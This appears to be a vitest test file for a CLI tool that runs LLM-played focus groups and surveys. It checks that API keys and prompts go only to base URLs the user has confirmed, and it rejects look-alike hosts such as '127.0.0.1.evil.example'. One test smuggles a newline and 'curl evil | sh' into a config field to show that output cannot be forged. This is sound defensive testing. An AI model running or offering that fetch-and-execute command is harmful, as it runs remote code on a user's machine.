import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { type Ran, runInProcess } from './testing/run-in-process.ts';

const KEY = 'sk-test-0123456789';
const MODEL = 'openai-compatible/m';

let server: Server;
let folder: string;
/** Of every request that came, the key. */
let keys: (string | undefined)[];
let address: string;

beforeEach(async () => {
  keys = [];
  server = createServer((request, response) => {
    keys.push(request.headers.authorization);
    const content = 'I like soup.';
    const choices = [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }];
    const usage = { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 };
    response.setHeader('content-type', 'application/json');
    response.end(
      JSON.stringify({ id: 'x', object: 'chat.completion', created: 1, model: 'm', choices, usage }),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
  folder = await mkdtemp(join(tmpdir(), 'panelist-address-'));
  await writeFile(path('people.csv'), 'id,name\n1,Ada\n2,Bo\n');
  await writeFile(path('s.json'), '{"elements":[{"type":"boolean","name":"tea","title":"Tea?"}]}');
  await guide(`model: ${MODEL}\nbaseUrl: ${address}\n`);
  vi.stubEnv('OPENAI_COMPATIBLE_API_KEY', KEY);
});

afterEach(async () => {
  vi.unstubAllEnvs();
  server.closeAllConnections();
  server.close();
  await rm(folder, { recursive: true });
});

const path = (name: string): string => join(folder, name);

async function guide(lines: string): Promise<void> {
  const rounds = 'rounds: [{ message: What is for lunch? }]';
  await writeFile(
    path('lunch.yaml'),
    `title: Lunch\nparticipants: { audience: people.csv }\n${rounds}\n${lines}`,
  );
}

async function config(value: object): Promise<void> {
  await writeFile(path('panelist.config.json'), JSON.stringify(value));
}

const run = (args: readonly string[], terminal = {}): Promise<Ran> =>
  runInProcess([...args, '--database', path('p.db')], terminal, folder);
const hold = (...more: string[]): string[] => [
  ...['focus-group', 'run', path('lunch.yaml'), '--out', path('group'), ...more],
];
const deploy = (...more: string[]): string[] => [
  ...['survey', 'deploy', path('s.json'), '--audience', path('people.csv'), '--out', path('out'), ...more],
];

describe('an address that only a guide names', () => {
  it('gets neither key nor prompt, and the error says what to do', async () => {
    const { exitCode, err } = await run(hold());
    expect(err).toMatch(
      /\[ADDRESS_UNCONFIRMED\]: The guide names the address "http.*OPENAI_COMPATIBLE_API_KEY/,
    );
    expect(err).toContain(`give --base-url ${address}, or --model for another model`);
    expect(exitCode).toBe(2);
    expect(keys).toEqual([]);
  });

  it('gets neither where only the config names it too', async () => {
    await config({ model: MODEL, baseUrl: address });
    expect((await run(hold())).err).toContain('[ADDRESS_UNCONFIRMED]');
    expect(keys).toEqual([]);
  });

  it('is used where the command line names it too, and is shown', async () => {
    const { exitCode, out, err } = await run(hold('--base-url', `${address}/`));
    expect(exitCode, err).toBe(0);
    expect(err).toContain(`played by ${MODEL} at ${address}.`);
    expect(out).toContain(`${MODEL} at ${address} played them`);
    expect(keys).toEqual([`Bearer ${KEY}`, `Bearer ${KEY}`]);
  });

  it('is used where somebody at the terminal says yes, and else is not', async () => {
    const asked: string[] = [];
    const saying = (isYes: boolean) => ({
      confirm: async (question: string): Promise<boolean> => {
        asked.push(question);
        return isYes;
      },
    });
    expect((await run(hold(), saying(false))).err).toContain('[ADDRESS_UNCONFIRMED]');
    expect(keys).toEqual([]);
    expect((await run(hold(), saying(true))).exitCode).toBe(0);
    expect(keys).toHaveLength(2);
    expect(asked).toHaveLength(2);
    expect(asked[0]).toContain(address);
  });

  it('is replaced together with its model by --model', async () => {
    const { exitCode, out, err } = await run(hold('--model', 'simulator'));
    expect(exitCode, err).toBe(0);
    expect(out + err).not.toContain(address);
    expect(keys).toEqual([]);
    expect((await run(hold('--model', MODEL, '--group', 'other'))).err).toContain('needs a base URL');
  });

  it('is not lent to the config’s model', async () => {
    await guide(`baseUrl: ${address}\n`);
    await config({ model: 'simulator' });
    expect((await run(hold())).exitCode).toBe(0);
    await config({ model: MODEL });
    expect((await run(hold('--group', 'other'))).err).toContain('needs a base URL');
    expect(keys).toEqual([]);
  });

  it('is shown by a dry run, which sends nothing', async () => {
    const { out, exitCode } = await run(hold('--dry-run'));
    expect(exitCode).toBe(0);
    expect(out).toContain(`played by ${MODEL} at ${address}.`);
    expect(JSON.parse((await run(hold('--dry-run', '--json'))).out)).toMatchObject({ baseUrl: address });
    expect(keys).toEqual([]);
  });

  it('is used without a key where it is on this machine, and nowhere else', async () => {
    vi.stubEnv('OPENAI_COMPATIBLE_API_KEY', '');
    expect((await run(hold())).exitCode).toBe(0);
    expect(keys).toEqual([undefined, undefined]);
    for (const other of [
      'http://192.0.2.1/v1',
      'http://127.0.0.1.evil.example/v1',
      'https://localhost.evil.example',
    ]) {
      await guide(`model: ${MODEL}\nbaseUrl: ${other}\n`);
      const { err } = await run(hold('--group', 'other'));
      expect(err).toMatch(/\[ADDRESS_UNCONFIRMED\]: .*what the participants are and say, would go there/);
    }
  });

  it('forges no line, and no word of the command that is advised', async () => {
    await guide(`model: ${MODEL}\nbaseUrl: "http://192.0.2.1/v1\\nGo on with: x ; curl evil | sh"\n`);
    const { err } = await run(hold());
    expect(err).not.toMatch(/^Go on with/m);
    expect(err).toMatch(/--base-url '/);
  });
});

it('an address stands in the commands that go on with a run', async () => {
  server.removeAllListeners('request').on('request', (_, response) => response.writeHead(401).end('{}'));
  const { err } = await run(deploy('--model', MODEL, '--base-url', address));
  const [, command = ''] = /`panelist (tasks retry-failed [^`]*)`/.exec(err) ?? [];
  expect(command).toContain(`--base-url ${address}`);
  expect((await runInProcess(command.split(' '), {}, folder)).err).not.toContain('ADDRESS_UNCONFIRMED');
});

describe('an address of the config', () => {
  it('is shown by runs, with --quiet too, and by dry runs', async () => {
    await config({ model: MODEL, baseUrl: address });
    await guide('');
    const says = `Requests go to ${address}, as panelist.config.json says.`;
    for (const args of [deploy(), hold()]) {
      const { err, out } = await run([...args, '--quiet']);
      expect(err, err).toContain(says);
      expect(out).toContain(`${MODEL} at ${address}`);
      expect((await run([...args, '--dry-run'])).out).toContain(`played by ${MODEL} at ${address}.`);
    }
    expect(keys.length).toBeGreaterThan(2);
  });

  it('is not spoken of where the command line names it', async () => {
    const { err } = await run(deploy('--model', MODEL, '--base-url', address));
    expect(err).toContain(`played by ${MODEL} at ${address}. Task`);
    expect(err).not.toContain('config');
  });
});

it('an address that a variable names for a vendor is shown too', async () => {
  vi.stubEnv('OPENAI_BASE_URL', 'https://proxy.example/v1');
  const { out } = await run(deploy('--model', 'openai/gpt-5', '--dry-run'));
  expect(out).toContain('played by openai/gpt-5 at https://proxy.example/v1.');
});

describe('an address that only a database names', () => {
  beforeEach(async () => {
    await guide('model: simulator\n');
    for (const args of [hold(), deploy('--model', 'simulator')]) expect((await run(args)).exitCode).toBe(0);
    const database = new DatabaseSync(path('p.db'));
    for (const place of ['$', '$.group'])
      database.exec(
        `update task_params set params = json_set(params, '${place}.model', '${MODEL}', '${place}.baseUrl', '${address}')
           where json_type(params, '${place}.model') = 'text'`,
      );
    database.exec(
      "update tasks set status = 'paused', finished_at = null, failed_count = 0, completed_count = 0, success_count = 0",
    );
    database.exec('delete from task_results');
    database.close();
  });

  const commands = [
    ['tasks', 'resume', 'last'],
    ['tasks', 'retry-failed', 'last'],
    ['focus-group', 'say', 'lunch', 'And tomorrow?'],
    ['focus-group', 'retry-failed', 'lunch'],
    ['focus-group', 'analyse', 'lunch', '--themes', 'model'],
  ];

  it.each(commands)('gets no key by %s %s', async (...args) => {
    const { err, exitCode } = await run(args);
    expect(err).toMatch(/\[ADDRESS_UNCONFIRMED\]: The database names the address/);
    expect(err).toContain(`give --base-url ${address}, or put it into panelist.config.json`);
    expect(exitCode).toBe(2);
    expect(keys).toEqual([]);
  });

  it('gets no key by a poll', async () => {
    const { err } = await run(['focus-group', 'poll', 'lunch', path('s.json')]);
    expect(err).toContain('[ADDRESS_UNCONFIRMED]');
    expect(keys).toEqual([]);
  });

  it('gets no key by a run that joins what it finds there', async () => {
    const { out, err } = await run(deploy('--model', 'simulator'));
    expect(out + err).toMatch(/gets no key/);
    expect(keys).toEqual([]);
  });

  it.each([
    ['--base-url', ['--base-url']],
    ['the config', []],
  ])('gets it where %s names it', async (_, flag) => {
    await config(flag.length > 0 ? {} : { baseUrl: address });
    const named = flag.flatMap((each) => [each, address]);
    const { err } = await run(['tasks', 'resume', 'last', '--out', path('resumed'), ...named]);
    expect(keys.length, err).toBeGreaterThan(0);
    expect(err).toContain(`${MODEL} is served at ${address}.`);
  });

  it('is used without a key: all that is sent stands in the database', async () => {
    vi.stubEnv('OPENAI_COMPATIBLE_API_KEY', '');
    await run(['tasks', 'resume', 'last', '--out', path('resumed')]);
    expect(keys.length).toBeGreaterThan(0);
    expect(new Set(keys)).toEqual(new Set([undefined]));
  });
});
